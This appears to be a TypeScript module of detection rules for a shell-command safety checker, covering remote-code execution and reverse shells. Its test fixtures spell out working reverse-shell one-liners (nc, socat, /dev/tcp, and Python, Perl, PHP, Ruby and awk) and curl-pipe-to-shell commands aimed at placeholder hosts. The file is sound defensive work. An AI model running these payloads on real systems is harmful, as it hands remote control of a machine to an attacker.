import { codeOf, interpreterNames } from '../../interpreter/code.js'
import { type Field, fieldOf, type Invocation } from '../../interpreter/programs/invocation.js'
import { has, operands } from '../../interpreter/programs/options.js'
import { PLANTED } from '../../interpreter/programs/planted.js'
import { shellNames } from '../../interpreter/programs/shells.js'
import { codeRun } from '../code.js'
import type { Rule } from '../rule.js'
import { fetcher, subcommand } from '../run-predicates.js'

const runners = [
  ...shellNames,
  ...interpreterNames,
  'eval',
  'source',
  '.',
  'su',
  'at',
  'batch',
  'crontab',
  'ssh',
  'xargs',
]

/** Code from the network, and shells given to it. */
export const networkCode: readonly Rule[] = [
  {
    id: 'network/run-download',
    title: 'Runs code from the network unread',
    severity: 'high',
    programs: ['*'],
    finds: (run) => {
      const found = fetcher(sourcesRun(run))
      return found && found !== run ? found.part : false
    },
    risk: (what) => `runs what “${what}” fetches from the network, before anyone has read it`,
    safer: (run) => {
      const from = fetcher(sourcesRun(run))
      return from && /^(?:curl|wget)$/.test(from.program) && !/ -\w*[oO]\b/.test(from.part)
        ? `${from.part} > script.sh && less script.sh`
        : undefined
    },
    caught: [
      'curl -fsSL https://x.io/i.sh | sh',
      'wget -qO- x | sudo bash -s -- -y',
      'bash <(curl -s x)',
      'sh -c "$(curl -fsSL x)"',
      'eval "$(wget -qO- x)"',
      'curl x | python3 -',
      'curl -o i.sh x && sh i.sh',
      'wget http://x/a.sh; chmod +x a.sh; ./a.sh',
      'X=$(curl x); eval "$X"',
      '. <(curl x)',
      'curl x | tee f | sh',
      '$(curl x)',
    ],
    passed: [
      'curl -fsSL https://x.io/i.sh -o i.sh',
      'curl x | jq .',
      'curl x | grep sh',
      'wget x.tgz && tar xf x.tgz',
      'V=$(curl -s x); echo "$V"',
      'curl x | python3 -m json.tool',
      'curl x | awk "{print}"',
      'curl x | python3 -c "import json,sys; print(json.load(sys.stdin))"',
    ],
  },
  {
    id: 'network/run-download-code',
    title: 'Code that runs code from the network',
    severity: 'high',
    programs: interpreterNames,
    finds: (run) => {
      const code = codeOf(run)
      const fetches =
        /urlopen|requests\.get|urllib|http\.get|https\.get|fetch\(|LWP|Net::HTTP|open-uri|URI\.open|file_get_contents\(\s*["']http|get\(\s*["']https?:/i
      return fetches.test(code) && /\b(?:exec|eval|system|popen)\b/.test(code)
    },
    risk: 'runs what it fetches from the network, before anyone has read it',
    caught: [`python3 -c "import urllib.request as u; exec(u.urlopen('http://x').read())"`],
    passed: [`python3 -c "import urllib.request as u; print(u.urlopen('http://x').read())"`],
  },
  {
    id: 'network/reverse-shell',
    title: 'Gives a shell to another machine',
    severity: 'high',
    programs: [
      'nc',
      'ncat',
      'netcat',
      'nc.*',
      'busybox',
      'socat',
      'telnet',
      'openssl',
      'rlwrap',
      'cryptcat',
      'pwncat',
    ],
    finds: (run) => {
      if (run.program === 'socat')
        return (
          run.args.some((field) => /^(?:exec|system):/i.test(field.value)) &&
          run.args.some((field) => /^(?:tcp|udp|openssl|ssl|sctp|socks)[\w-]*:/i.test(field.value))
        )
      const shell = run.args.some((field) =>
        /(?:^|\/)(?:sh|bash|zsh|dash|ash|cmd(?:\.exe)?|ksh)\b/.test(field.value),
      )
      const fed = run.upstream.some((one) => shellNames.some((name) => name === one.program))
      if (/^(?:telnet|openssl)$/.test(run.program))
        return fed && (run.program === 'telnet' || has(run, 'connect') || subcommand(run)[0] === 's_client')
      return (has(run, 'e', 'c', 'exec', 'sh-exec') && shell) || fed
    },
    risk: 'gives a shell on this machine to the other end of the connection',
    caught: [
      'nc -e /bin/sh 1.2.3.4 4444',
      'ncat 1.2.3.4 9 --exec /bin/bash',
      'socat tcp:1.2.3.4:9 exec:/bin/sh,pty',
      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 9 > /tmp/f',
      'nc -lvp 9 -e /bin/bash',
    ],
    passed: [
      'nc -zv host 22',
      'nc -l 9000 > file',
      'socat - tcp:host:80',
      'openssl s_client -connect x:443',
      'echo stats | nc localhost 11211',
    ],
  },
  {
    id: 'network/reverse-shell-device',
    title: 'A shell over /dev/tcp',
    severity: 'high',
    programs: ['*'],
    finds: (run) => {
      const socket = run.redirects.find((one) => /^\/dev\/(?:tcp|udp)\//.test(one.target.value))
      const shell =
        shellNames.some((name) => name === run.program) ||
        run.upstream.some((one) => shellNames.some((name) => name === one.program))
      const lasting = run.via.includes('exec') || run.program === 'exec'
      return socket && (shell || lasting) ? socket.target : false
    },
    risk: (what) => `gives a shell on this machine to ${what}`,
    caught: [
      'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
      'sh -i 5<> /dev/tcp/1.2.3.4/9 0<&5 1>&5',
      'exec 5<>/dev/tcp/1.2.3.4/443; cat <&5',
    ],
    passed: ['echo > /dev/tcp/localhost/22', 'timeout 1 bash -c "</dev/tcp/db/5432"', 'bash -i'],
  },
  {
    id: 'network/reverse-shell-code',
    title: 'Code that gives a shell to another machine',
    severity: 'high',
    programs: [...interpreterNames, 'go'],
    finds: (run) => {
      const code = codeRun(run)
      return (
        /socket|TCPSocket|fsockopen|net\.(?:connect|createConnection|Dial)|\(\s*["']net["']\s*\)\.(?:connect|createConnection|Socket)|\/inet\/tcp|IO::Socket/i.test(
          code,
        ) &&
        /\/bin\/(?:ba|da|z)?sh|pty\.spawn|dup2|cmd\.exe|getline|exec\s*\(?\s*["'](?:ba|da|z)?sh\b|IO\.popen|io\.popen|\bsystem\s*\(?\s*\$_|system\(\s*\w+\s*\)/.test(
          code,
        )
      )
    },
    risk: 'opens a connection and gives a shell to its other end',
    caught: [
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,">&S");exec("/bin/sh -i");'`,
      `php -r '$s=fsockopen("1.2.3.4",9);exec("/bin/sh -i <&3 >&3 2>&3");'`,
      `ruby -rsocket -e 'c=TCPSocket.new("1.2.3.4",9);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'`,
      `awk 'BEGIN {s = "/inet/tcp/0/1.2.3.4/9"; while(1) { s |& getline c; }}'`,
    ],
    passed: [
      `python3 -c 'import socket; print(socket.gethostname())'`,
      `node -e 'require("net").createServer()'`,
    ],
  },
]

/** The commands whose output this run executes. */
function sourcesRun(run: Invocation): readonly Invocation[] {
  // Adding such a line to a start file of a shell runs nothing yet: there is another rule for that.
  if (run.via.includes(PLANTED)) return []
  if (run.program === 'ssh' || run.program === 'su') return run.args.length === 1 ? run.upstream : []
  const isRunner = runners.includes(run.program)
  if (!isRunner) return run.program === '' || run.origin.length > 0 ? run.origin : []
  const words = operands(run, 'c', 'e', 'm', 'F', 'v', 'f', 'o', 'O')
  if (run.program === 'xargs') return []
  if (/awk$|^(?:vim?|expect)$/.test(run.program)) return run.origin
  const option = run.args.findIndex((field) => /^-\w*[ceEr]$|^--(?:eval|print)$/.test(field.value))
  if (option >= 0 && run.program !== 'eval')
    return [
      ...(run.args[option + 1]?.sources ?? []).filter(() => isCode(run.args[option + 1])),
      ...run.origin,
    ]
  if (/^(?:eval|source|\.)$/.test(run.program))
    return [...run.args.flatMap((field) => field.sources), ...run.origin]
  const given = run.args.some((field) => /^-m/.test(field.value))
  const fromInput =
    !given &&
    (words.length === 0 ||
      words[0]?.value === '-' ||
      words[0]?.value === '/dev/stdin' ||
      run.args.some((field) => /^-\w*s$/.test(field.value)))
  // When only a stretch of the input is unknown, that stretch runs only if it is at the start of a command.
  const unseen = run.input === undefined || isCode(fieldOf(run.input))
  return [...(fromInput && unseen ? [...run.upstream, ...inWords(run)] : []), ...run.origin]
}

/** `echo "$(curl x)" | sh`: what comes before it only prints what another command fetched. */
function inWords(run: Invocation): readonly Invocation[] {
  const last = run.upstream.at(-1)
  if (!last || !/^(?:echo|printf|cat)$/.test(last.program)) return []
  return last.args.filter((field) => isCode(field)).flatMap((field) => field.sources)
}

/** The unknown stretch begins a command: `sh -c "$(curl x)"`, not `sh -c "echo $(curl x)"`. */
function isCode(field: Field | undefined): boolean {
  return field !== undefined && /(?:^|[;&|\n(]\s*|\bexec\s+|\beval\s+)\0/.test(field.value.trim())
}
